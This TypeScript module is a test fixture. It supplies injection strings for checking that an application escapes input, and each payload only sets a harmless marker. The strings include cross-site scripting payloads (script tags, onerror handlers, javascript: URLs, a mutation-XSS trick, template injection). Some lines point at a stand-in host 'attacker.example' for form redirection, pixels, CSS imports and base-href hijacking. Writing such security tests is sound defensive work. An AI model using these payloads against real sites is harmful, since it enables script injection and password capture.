import { existsSync, readFileSync } from 'node:fs'
import { join } from 'node:path'

/** Every script sets this property of `window` if it runs. */
export const marker = '__ran'
export const run = `window.${marker}=1`
const attacker = 'https://attacker.example'

/** Known ways to inject scripts, foreign content and broken markup. */
const builtInStrings: readonly string[] = [
  `<script>${run}</script>`,
  `</script><script>${run}//`,
  `</title></textarea></style><script>${run}</script>`,
  `<!--<script>${run}</script>`,
  `"><img src=x onerror="${run}">`,
  `' onmouseover='${run}' x='`,
  `<svg/onload=${run}><animate onbegin=${run} attributeName=x>`,
  `<a href="javascript:${run}">fees</a>`,
  `<a href="&#106;ava\tscript:${run}" style="position:fixed;inset:0">fees</a>`.replace(
    '\t',
    '&#9;',
  ),
  `javascript:${run}`,
  `data:text/html,<script>opener.${run}</script>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<form action="${attacker}/"><input name=password autofocus onfocus=${run}></form>`,
  `<img src="${attacker}/pixel.png"><video src="${attacker}/video.mp4" autoplay></video>`,
  `<style>@import "${attacker}/all.css"; body{background:url(${attacker}/pixel.png)}</style>`,
  `<base href="${attacker}/"><meta http-equiv="refresh" content="0;url=${attacker}/">`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}} #{7*7} <%= 7*7 %> %s %n $& $1`,
  'null \\ \\u003cscript\\u003e \u2028 \u2029 \u200f &lt;script&gt;',
  `क्षि${'\u0345'.repeat(20)} ${'😀'.repeat(20)} ${'W'.repeat(40)}`,
]

const folder = join(process.env.SAMPLES_DIR ?? '', 'naughty')

/** Whether every string of SAMPLES_DIR is tested in every field; this takes hours. */
export const isFullRun =
  process.env.ALL_STRINGS === '1' && process.env.SAMPLES_DIR !== undefined && existsSync(folder)

const read = (name: string) => readFileSync(join(folder, name), 'utf8')

/** The built-in strings; with `ALL_STRINGS=1` also the lists in `SAMPLES_DIR/naughty`. */
export const strings: readonly string[] = isFullRun
  ? [...builtInStrings, ...JSON.parse(read('strings.json')), ...read('xss.txt').split('\n')]
  : builtInStrings
